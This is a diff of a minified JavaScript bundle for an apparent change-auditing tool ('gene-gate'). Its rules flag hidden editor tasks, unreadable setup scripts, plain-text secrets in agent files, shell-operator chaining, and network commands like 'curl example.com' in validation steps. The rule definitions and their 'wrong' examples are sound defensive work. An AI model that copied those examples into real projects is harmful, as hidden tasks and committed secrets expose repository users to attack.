-configure:a,message:c=>`${u(c)} and hides its output.`,remedy:"Remove `reveal: never`, or the task."}),"agent-script-unr\
-eadable":(0,e().warning)({listed:!0,failsByLevel:!0,...l,harm:"broken",counted:["why"],title:"Change makes machines run \
-an unreadable script",why:"Reviewers do not read a script of more than 200 kB, or with a line of more than 2,000 charact\
-ers. Attacks hide in such files behind a hook of one line.",wrong:m("node setup.js",{"setup.js":"<3,000 letters>"}),right:{
-...m("node setup.js",{"setup.js":`work();
+, which runs what it downloads.`,remedy:"Remove the download. A person reviews the code first, and commits what the proj\
+ect needs."}),"agent-file-secret":(0,e().warning)({failsByLevel:!0,...l,harm:"danger",title:"Secret in a file of agents \
+or editors",why:"Everybody who can read the repository can use the secret, and it stays in the history of git. The value\
+ is not shown.",wrong:_("8f14e45fceea167a5a36dedd4bea2543"),right:{..._("$SEARCH_TOKEN"),also:{"agent-command-changed":"\
+The server is new."}},configure:a,message:"`{path}` contains a secret in plain text ({kind}).",remedy:"Revoke the secret\
+, and use an environment variable instead."}),"agent-task-hidden":(0,e().warning)({failsByLevel:!0,...l,harm:"danger",title:"\
+Change makes an editor run a hidden task",why:"The editor runs the task when somebody opens the folder, and `reveal: nev\
+er` keeps its terminal closed. That is rarely useful except to hide what runs.",wrong:y("never"),right:{...y("silent"),also:{
+"agent-command-changed":"The task is new."}},configure:a,message:c=>`${u(c)} and hides its output.`,remedy:"Remove `reve\
+al: never`, or the task."}),"agent-script-unreadable":(0,e().warning)({listed:!0,failsByLevel:!0,...l,harm:"broken",counted:[
+"why"],title:"Change makes machines run an unreadable script",why:"Reviewers do not read a script of more than 200 kB, o\
+r with a line of more than 2,000 characters. Attacks hide in such files behind a hook of one line.",wrong:m("node setup.\
+js",{"setup.js":"<3,000 letters>"}),right:{...m("node setup.js",{"setup.js":`work();
 `}),also:{"agent-command-changed":"The hook is new."}},configure:a,message:"For {event}, {tool} runs `{script}`, which n\
 obody can read: it {why}.",remedy:"Ask for its source and how it was made, or remove it."}),"agent-command-changed":(0,e().
 warning)({listed:!0,...l,counted:["means"],title:"Change makes machines run or trust something else",why:"Hooks, servers\
@@ -254,8 +254,8 @@ once, for a folder or a name; what the name starts can change later. The gate sh
 and what it runs, as far as its text says that. It runs none. Nor is a setting harmless: a base URL sends the requests o\
 f an agent, with their keys, to another place, some variables make each program load code, and a trust switch turns off \
 questions. A change of the script behind a command that stays is a notice: no tool asks again for it.",wrong:m("npx some\
--tool"),right:b,configure:a,message:c=>{const{tool:T,event:E,command:s,means:g,isSetting:j}=c,n=g.length>0?`: ${g.join("\
-; ")}`:"";return j?`\`${E}\` of ${T} becomes \`${s}\` for everybody who opens the branch.`:`${u(c)}${n}.`},remedy:h}),"a\
+-tool"),right:b,configure:a,message:c=>{const{tool:T,event:A,command:s,means:g,isSetting:j}=c,n=g.length>0?`: ${g.join("\
+; ")}`:"";return j?`\`${A}\` of ${T} becomes \`${s}\` for everybody who opens the branch.`:`${u(c)}${n}.`},remedy:h}),"a\
 gent-file-broken":(0,e().rule)({harm:"broken",title:"File of agents or editors cannot be read",why:"What a file makes ma\
 chines run can only be shown if it is JSON; comments and trailing commas are allowed. Tools differ in how they read a br\
 oken file.",wrong:{head:{[t]:'{ "hooks": '}},right:{head:{[t]:'{ /* none */ "hooks": {}, }'}},configure:`agent_files:
@@ -424,18 +424,19 @@ ill apply to the change that removes it, because a gene could be replaced by one
 ne_b"})},right:{base:(0,t().genes)({id:"gene_a"}).head,...(0,t().genes)({id:"gene_a"},{id:"gene_b"})},message:"The chang\
 e removes the gene `{gene}`.",remedy:"Confirm that the removal is intended."}),"engine-seeds":(0,m().notice)({title:"Ass\
 ets are unchanged seeds of the engine",why:"The reference engine ships Genes and Capsules, and most stores begin with a \
-copy of them. What is wrong with a seed was not written in this repository, so all that is found about unchanged seeds i\
-s one notice, except what is dangerous. Verdicts stay as they are, and the report\u2019s data has every finding, marked with \
-`seed`. A seed that the change edits, that it applies, or of whose commands it touches a target is shown as every other \
-asset.",wrong:l(t().SEED_STORE),right:l(t().SEED_STORE.replace('"optimize"','"repair"')),message:({ids:r,count:p,oldest:b,
-newest:v})=>`${p===1?"1 asset is an unchanged seed":`${p} assets are unchanged seeds`} of the engine ${b}${v===b?"":` to\
- ${v}`}: ${(0,i().inCode)(r.slice(0,5))}${r.length>5?` and ${r.length-5} more`:""}.`,remedy:"Keep the seeds that this re\
-pository uses, correct them with `gene-gate fix --write`, and remove the others."}),"seed-activated-blocked":(0,m().warning)(
-{harm:"broken",title:"Gene that may not run moves into the store",why:"A gene in a seed file (`*.seed.json`) waits to be\
- copied; in the store, engines use it. A gene that is only moved is not changed, so its commands are not judged again, b\
-ut from now on they are what validates. The gate runs none of the commands of a gene with one that it blocks.",wrong:{base:{
-"assets/gep/genes.seed.json":[(0,t().gene)({validation:["curl example.com"]})]},head:{[t().GENES]:[(0,t().gene)({validation:[
-"curl example.com"]})]}},right:{base:{"assets/gep/genes.seed.json":[(0,t().gene)()]},head:{[t().GENES]:[(0,t().gene)()]}},
+copy of them. What is wrong with a seed was not written in this repository, so what is found about unchanged seeds is on\
+e notice, except errors. In a store without its engine, the scripts that seeds name do not exist: their commands do not \
+run, and fail nothing but what is dangerous; one warning says so. A seed that the change edits, that it applies, or of w\
+hose commands it adds or edits a file counts as every other asset.",wrong:l(t().SEED_STORE),right:l(t().SEED_STORE.replace(
+'"optimize"','"repair"')),message:({ids:r,count:p,oldest:b,newest:v,idle:c})=>`${p===1?"1 asset is an unchanged seed":`${p}\
+ assets are unchanged seeds`} of the engine ${b}${v===b?"":` to ${v}`}: ${(0,i().inCode)(r.slice(0,5))}${r.length>5?` an\
+d ${r.length-5} more`:""}.${c>0?" The engine's scripts are not in this repository; they can't be validated here.":""}`,remedy:"\
+Keep the seeds that this repository uses, and remove the others."}),"seed-activated-blocked":(0,m().warning)({harm:"brok\
+en",title:"Gene that may not run moves into the store",why:"A gene in a seed file (`*.seed.json`) waits to be copied; in\
+ the store, engines use it. A gene that is only moved is not changed, so its commands are not judged again, but from now\
+ on they are what validates. The gate runs none of the commands of a gene with one that it blocks.",wrong:{base:{"assets\
+/gep/genes.seed.json":[(0,t().gene)({validation:["curl example.com"]})]},head:{[t().GENES]:[(0,t().gene)({validation:["c\
+url example.com"]})]}},right:{base:{"assets/gep/genes.seed.json":[(0,t().gene)()]},head:{[t().GENES]:[(0,t().gene)()]}},
 message:"The gene `{gene}` moves from a seed file into the store, but its command `{command}` is blocked.",remedy:"Corre\
 ct the validation commands of the gene, or leave it in the seed file."})})},13580:function(O,o,d){Object.defineProperty(
 o,"__esModule",{value:!0}),o.allRules=n,o.checkRules=j,o.ruleOf=w;function e(){const f=d(18118);return e=function(){return f},
@@ -446,12 +447,12 @@ f}function l(){const f=d(72443);return l=function(){return f},f}function u(){con
 f}function h(){const f=d(9969);return h=function(){return f},f}function r(){const f=d(17188);return r=function(){return f},
 f}function p(){const f=d(65316);return p=function(){return f},f}function b(){const f=d(6692);return b=function(){return f},
 f}function v(){const f=d(76186);return v=function(){return f},f}function c(){const f=d(48516);return c=function(){return f},
-f}function T(){const f=d(8371);return T=function(){return f},f}function E(){const f=d(42148);return E=function(){return f},
+f}function T(){const f=d(8371);return T=function(){return f},f}function A(){const f=d(42148);return A=function(){return f},
 f}const s=[()=>v().syntaxRules,()=>h().programRules,()=>l().invocationRules,()=>c().targetRules,()=>T().validatorRules,()=>y().
-curatedRules,()=>u().policyRules,()=>E().workspaceRules,()=>i().assetFileRules,()=>t().assetRules,()=>a().evidenceRules,
+curatedRules,()=>u().policyRules,()=>A().workspaceRules,()=>i().assetFileRules,()=>t().assetRules,()=>a().evidenceRules,
 ()=>_().eligibilityRules,()=>m().changeRules,()=>b().storeRules,()=>e().agentFileRules,()=>p().runRules],g=[...s,()=>r().
 promotionRules];function j(){return s.flatMap(f=>Object.values(f()))}function n(){return g.flatMap(f=>Object.values(f()))}
-const k=new Map;function w(f){const A=k.get(f);if(A!==void 0)return A;const $=g.find(S=>Object.hasOwn(S(),f))?.()?.[f];return $!==
+const k=new Map;function w(f){const E=k.get(f);if(E!==void 0)return E;const $=g.find(S=>Object.hasOwn(S(),f))?.()?.[f];return $!==
 void 0&&k.set(f,$),$}},8909:function(O,o,d){Object.defineProperty(o,"__esModule",{value:!0}),o.changeRules=void 0;function e(){
 const n=d(67298);return e=function(){return n},n}function t(){const n=d(36773);return t=function(){return n},n}function i(){
 const n=d(43767);return i=function(){return n},n}const m=`blast_radius:
@@ -465,7 +466,7 @@ status:"failed",score:.2}},r={outcome:{status:"success",score:.9}},p={base:{"REA
 `}},b={submodule:"1d0c4fe2b6a0d6d9a51b2c4a7f1ed0f5bb1f3b64"};function v(n){const k={max_files:5,forbidden_paths:["src/co\
 re"]},w=(0,e().gene)({constraints:k,summary:"Edited."});return{base:{[e().GENES]:[(0,e().gene)({constraints:k})]},head:{
 [e().GENES]:[w],[n]:`work();
-`}}}function c(n){return n===1?"1 file":`${n} files`}function T(n){return n===1?"1 line":`${n} lines`}function E({path:n,
+`}}}function c(n){return n===1?"1 file":`${n} files`}function T(n){return n===1?"1 line":`${n} lines`}function A({path:n,
 via:k,more:w=0}){const f=k===""?"":`, which resolves to \`${k}\``;return`The change touches \`${n}\`${f}${w===0?"":` and\
  ${w} more ${w===1?"path":"paths"} there`}`}function s({likewise:n,more:k}){return n.length===0?"":`; likewise ${(0,t().
 inCode)(n)}${k===0?"":` and ${k} more`}`}function g({gene:n,declared:k}){return k?`the gene \`${n}\``:`genes without \`ma\
@@ -484,13 +485,13 @@ runs all the same, so they are always forbidden. A policy can forbid more, such 
 wrong:{head:{"packages/api/node_modules/left-pad/index.js":`work();
 `}},right:{head:{"packages/api/package.json":`{ "dependencies": { "left-pad": "1.3.0" } }
 `}},configure:`blast_radius:
-  forbidden_paths: [infrastructure]`,message:n=>`${E(n)}, but ${n.by} \`${n.entry}\`.`,remedy:"Remove `{path}` from the \
+  forbidden_paths: [infrastructure]`,message:n=>`${A(n)}, but ${n.by} \`${n.entry}\`.`,remedy:"Remove `{path}` from the \
 change. A path of the policy can be allowed on the base branch first."}),"forbidden-path-declared":(0,i().rule)({cause:({
 entry:n})=>`forbidden path ${n}`,harm:"broken",ignorable:!0,title:"Change touches a path that a gene forbids",why:"`cons\
 traints.forbidden_paths` lists what a gene must never touch. An entry is a path from the root of the repository and incl\
 udes everything below it. It is case-sensitive and not a pattern. Both names of a renamed file are checked, and symlinks\
  are followed. For a gene that exists at the base, its old entries also apply; for a gene that the change only adds, thi\
-s is a warning.",wrong:v("src/core/index.js"),right:v("src/corelib.js"),message:n=>`${E(n)}, but the gene \`${n.gene}\` f\
+s is a warning.",wrong:v("src/core/index.js"),right:v("src/corelib.js"),message:n=>`${A(n)}, but the gene \`${n.gene}\` f\
 orbids \`${n.entry}\`.`,remedy:"Remove `{path}` from the change, or edit it in a change that does not use the gene `{gen\
 e}`."}),"protected-path":(0,i().rule)({ignorable:"as warning",title:"Change touches a protected file",why:"Some files co\
 ntrol everything else: instructions for agents, secrets, and workflows. A person must review a change to one of them. A \
@@ -549,7 +550,7 @@ se branch can change it.",wrong:{head:{...u,"src/<1-61>.js":`work();
 `}},right:{head:{...u,"src/<1-59>.js":`work();
 `},also:{"constraints-malformed":"A lower limit would be approached."}},configure:`blast_radius:
   hard_cap_files: 60
-  hard_cap_lines: 20000`,message:({files:n,lines:k,capFiles:w,capLines:f,genes:A})=>`The change ${A>1?`with ${A} genes `:
+  hard_cap_lines: 20000`,message:({files:n,lines:k,capFiles:w,capLines:f,genes:E})=>`The change ${E>1?`with ${E} genes `:
 ""}touches ${[...k>f&&n<=w?[]:[`${c(n)}, but the hard cap is ${w}`],...k>f?[`${T(k)}, but the hard cap is ${f}`]:[]].join(
 "; and ")}.`,remedy:"Split the change, or add generated and vendored files in a change without a gene."}),"symlink-leave\
 s-tree":(0,i().rule)({forbidsRunning:"change",title:"Change adds a symlink that leaves the repository or never resolves",
@@ -584,14 +585,14 @@ families:
     sandbox: { forms: { test: {} }, match: [make test], not_match: [make] }`,h=`profile: curated
 families:
   - name: tee
-    sandbox: { risk: write, warnings: [writes_files], match: [tee out.txt], not_match: [tee --append out.txt] }`;function r(c,T,E,s){
+    sandbox: { risk: write, warnings: [writes_files], match: [tee out.txt], not_match: [tee --append out.txt] }`;function r(c,T,A,s){
 const g=s===void 0?{}:{policy:s};return(0,e().rule)({title:`Command is not a registered form of ${T.split(" ")[0]}`,why:"\
 Programs that can do damage in many ways are accepted only in a few fixed forms, and every word of the command must matc\
-h the form.",wrong:{command:c,...g},right:{command:T,...g,also:E},message:"`{family}` {objection}.",remedy:"Write the co\
-mmand in one of the registered forms."})}function p(c,T,E){return(0,e().rule)({title:`Command ${T}`,why:"Only one comman\
+h the form.",wrong:{command:c,...g},right:{command:T,...g,also:A},message:"`{family}` {objection}.",remedy:"Write the co\
+mmand in one of the registered forms."})}function p(c,T,A){return(0,e().rule)({title:`Command ${T}`,why:"Only one comman\
 d is validated. An operator makes a shell run a second one, insert the output of one, or open files that no operand name\
 s. In the operands of archives, operators are blocked even inside quotes, which people and tools that pass them on can l\
-ose.",wrong:E,right:"tar -tf a.tar",message:({operator:s})=>`The command contains a blocked shell operator (${c}): \`${s}\
+ose.",wrong:A,right:"tar -tf a.tar",message:({operator:s})=>`The command contains a blocked shell operator (${c}): \`${s}\
 \`.`,remedy:"Write a single command without shell operators."})}const b={right:"cat notes.md",remedy:"Confirm that this \
 is intended."},v=o.curatedRules=(0,e().rules)("policy","broken",{no_command:(0,e().rule)({title:"Command is missing",why:"\
 The curated validator validates the command of a proposal. Without a command, it has nothing to accept.",wrong:"",right:"\
@@ -862,7 +863,7 @@ families:
       forms: { scripts/check.js: {} }
       match: ['node scripts/check.js']
       not_match: ['node scripts/other.js']
-`,v=50;function c($){const S=$.length-v;return`${$.slice(0,v).join("; ")}${S>0?`; and ${S} more`:""}`}const T=12;function E($){
+`,v=50;function c($){const S=$.length-v;return`${$.slice(0,v).join("; ")}${S>0?`; and ${S} more`:""}`}const T=12;function A($){
 const S=$.length-T;return`${(0,t().inCode)($.slice(0,T))}${S>0?`, and ${S} more lines`:""}`}function s($,S,x,R){return S===
 "review"?`Ask ${$===1?"a person":k($)} with write access, other than the author, to approve the pull request with a revi\
 ew that contains the line \`/gene-gate approve\`${R&&`, or \`/gene-gate approve ${R}\` for exactly this digest`}.`:`If ${x}\
@@ -870,7 +871,7 @@ ew that contains the line \`/gene-gate approve\`${R&&`, or \`/gene-gate approve 
 ange after the merge: ${c($)}`}function j([$,...S]){return S.length===0?`\`${$}\` requires`:`\`${$}\` and ${S.length} mo\
 re of its commands require`}function n($,S){if($===1)return"";const x=S===1?"one has":`${S} have`;return S===0?` from ${k(
 $)}`:` from ${k($)}, and ${x} approved`}function k($){return $===2?"two people":`${$} people`}const w=3;function f($){if($.
-length===0)return"";const S=$.length-w;return`; not counted: ${$.slice(0,w).join("; ")}${S>0?`; and ${S} more`:""}`}function A($,S){
+length===0)return"";const S=$.length-w;return`; not counted: ${$.slice(0,w).join("; ")}${S>0?`; and ${S} more`:""}`}function E($,S){
 return`ignores:
   - rule: ${$}
     where: { gene: gene_a }
@@ -932,7 +933,7 @@ n edit of the block, its removal, or a fence, comment or fold around it is shown
 on does not write is a notice. Instructions protect nothing: the gate decides in the same way without them, so nobody ha\
 s to approve the edit.",wrong:{base:r,head:{"AGENTS.md":`# Agents
 `}},right:{head:{"AGENTS.md":`# Agents
-`},also:p},message:({path:$,effect:S,lines:x})=>`The block of gene-gate in \`${$}\` ${S}${x.length>0?`: ${E(x)}`:""}.`,remedy:"\
+`},also:p},message:({path:$,effect:S,lines:x})=>`The block of gene-gate in \`${$}\` ${S}${x.length>0?`: ${A(x)}`:""}.`,remedy:"\
 Run `gene-gate init --agents`, and commit the file."}),"gate-approval-missing":(0,i().warning)({approval:"waits",harm:"d\
 anger",actor:"human",counted:["weakens","runs"],title:"Change of the gate waits for approval",why:"A change that weakens\
  the gate needs the approval of as many people as `approvals.gate` of the base policy says, given as for a command: see \
@@ -952,7 +953,7 @@ n",title:"Exception in the policy has no effect",why:"A policy can soften warnin
 s or how much it touches. It cannot soften what protects the machine. An ignore, or a level with `until`, is temporary: \
 after its last day the finding counts again, and the exception is reported until the cause is fixed or a person sets a n\
 ew date. An ignore that covers nothing hides the next finding of its rule.",wrong:{...(0,e().genes)({validation:['node -\
-e "1"']}),policy:A("outside-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:y,message:"\
+e "1"']}),policy:E("outside-code",2099),also:{"outside-code":"It is blocked with or without the ignore."}},right:y,message:"\
 {exception} in the policy has no effect: {refusal}.",remedy:"Fix what the rule reports and remove the exception, or corr\
 ect its rule or date."}),"approval-missing":(0,i().notice)({approval:"waits",actor:"human",title:"Gene waits for approva\
 l",why:"The policy allows these commands only after approval: strong confirmation is for dangerous commands and requires\
@@ -1108,7 +1109,7 @@ node:fs');
 `}}},p=`setInterval(() => {}, 1000);
 `;function b(s){return s.map(g=>`; ${g}`).join("")}const v=5;function c(s){return`${(0,t().inCode)(s.slice(0,v))}${s.length>
 v?", \u2026":""}`}function T(s,g,j){const n=j>v?` (${j} files)`:"",k=`${c(g)}${n}`;return s==="functions_fail"?`every fu\
-nction of ${k} made to fail`:s==="unparsable"?`${k} made unreadable for every parser`:`${k} broken`}const E=o.runRules=(0,i().
+nction of ${k} made to fail`:s==="unparsable"?`${k} made unreadable for every parser`:`${k} broken`}const A=o.runRules=(0,i().
 rules)("run","broken",{"command-failed":(0,i().rule)({counted:["how"],title:"Validation command failed",why:"A command p\
 asses when it exits with code 0. It fails with any other code, and if it could not start or was killed by a signal: with\
 out an exit code it has validated nothing. The later commands of the gene are skipped. If containment explains the failu\
@@ -1411,7 +1412,7 @@ it is not in the lockfile"},T={alias:(n,k)=>`installs the package \`${k}\` under
 s \`${n}\` from \`${k}\`, and not from where the base branch has it`,git:(n,k)=>`installs \`${n}\` from the git repositor\
 y \`${k}\``,host:(n,k)=>`installs \`${n}\` from the host \`${k}\`, which the base branch does not use`,integrity:(n,k)=>`\
 has other content for the same version of \`${n}\`: \`${k}\``,tarball:(n,k)=>`installs \`${n}\` from the archive \`${k}\``},
-E={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"i\
+A={symlink:"is a symbolic link that leads out of the repository",address:"is a URL, not a path in the repository",git:"i\
 s in the `.git` directory, which is not part of any commit",workspace:"names workspaces that can be outside the reposito\
 ry"},s={directory:"it names a directory without a main file",submodule:"it names a submodule",backslash:"it contains a b\
 ackslash",loop:"its symbolic links form a loop"},g={depth:"scripts that run each other",count:"scripts of one command",time:"\
@@ -1419,15 +1420,15 @@ seconds for the scripts of all commands"},j=o.targetRules=(0,i().rules)("target"
 {harm:"danger",title:"Command runs a file outside the repository",why:"Only the contents of the commit have been reviewe\
 d. A path that leads out of the repository, directly or through a symbolic link, names a file of one machine, and files \
 in `.git` are not part of any commit or diff.",wrong:"node ../other/check.js",right:"node scripts/check.js",message:({path:n,
-reason:k})=>`\`${n}\` ${E[k]??"is outside the repository"}.`,remedy:"Add the file to the repository and use its path rel\
+reason:k})=>`\`${n}\` ${A[k]??"is outside the repository"}.`,remedy:"Add the file to the repository and use its path rel\
 ative to the root."}),"target-missing":(0,i().rule)({absent:!0,counted:["near","written"],title:"Command runs a file tha\
 t the commit does not have",why:"Commands see the audited commit, installed dependencies, what `prepare` wrote, and the \
 files that `build_outputs` in the policy names. A file on disk that is none of these has not been reviewed, and other ma\
 chines may not have it. A program of a submodule is not: the change of a submodule is one commit id.",wrong:"node script\
-s/chek.js",right:"node scripts/check.js",message:({path:n,untracked:k,submodule:w,near:f,written:A})=>{const C=k?"is on \
+s/chek.js",right:"node scripts/check.js",message:({path:n,untracked:k,submodule:w,near:f,written:E})=>{const C=k?"is on \
 disk, but not part of the audited commit":w===void 0?"does not exist in the repository at this commit":`is in the submod\
-ule \`${w}\`, whose files are not part of the audited commit`,$=f===void 0?"":`; \`${f}\` exists`,S=A===void 0?"":` A sh\
-ell reads each \`\\\` of \`${A}\` as an escape and removes it.`;return`\`${n}\` ${C}${$}.${S}`},remedy:({near:n,written:k})=>n!==
+ule \`${w}\`, whose files are not part of the audited commit`,$=f===void 0?"":`; \`${f}\` exists`,S=E===void 0?"":` A sh\
+ell reads each \`\\\` of \`${E}\` as an escape and removes it.`;return`\`${n}\` ${C}${$}.${S}`},remedy:({near:n,written:k})=>n!==
 void 0?`Write \`${n}\`, or add the missing file to the change.`:k!==void 0?"Write `/` between the parts of a path.":"Add\
  the file to the change, or correct the path. If a build writes the file, run the build in `prepare`, or name the file i\
 n `build_outputs` in the policy of the base branch."}),"target-not-judged":(0,i().notice)({title:"Target is judged when \
@@ -1517,8 +1518,8 @@ t is simple commands joined by `&&`, each judged like a command of a gene, with 
 file helpers that write only to paths which git ignores. Other shell syntax can lose a failure or hide which code runs. \
 It is an error where the change brings it or a command passes arguments to it, and a notice where the base has the same \
 text; then all files that the text names count as what validates.",wrong:y("node scripts/check.js || true"),right:y("nod\
-e scripts/a.js && node scripts/b.js"),message:({script:n,text:k,part:w,why:f,words:A})=>`In the npm script \`${n}\`, \`${w}\
-\` ${f}${A.length>0?`, and the command passes ${(0,t().inCode)(A)} to it`:""}: \`${k}\`.`,remedy:"Join simple commands w\
+e scripts/a.js && node scripts/b.js"),message:({script:n,text:k,part:w,why:f,words:E})=>`In the npm script \`${n}\`, \`${w}\
+\` ${f}${E.length>0?`, and the command passes ${(0,t().inCode)(E)} to it`:""}: \`${k}\`.`,remedy:"Join simple commands w\
 ith `&&`, or move the work into a Node script."}),"npm-script-text":(0,i().warning)({title:"npm script has a command tha\
 t would be refused",why:"Each command of a script is judged like a command of a gene. It is an error where the change br\
 ings the script, unless the program is only unknown to the gate; a review decides about that.",wrong:y("touch x"),right:y(
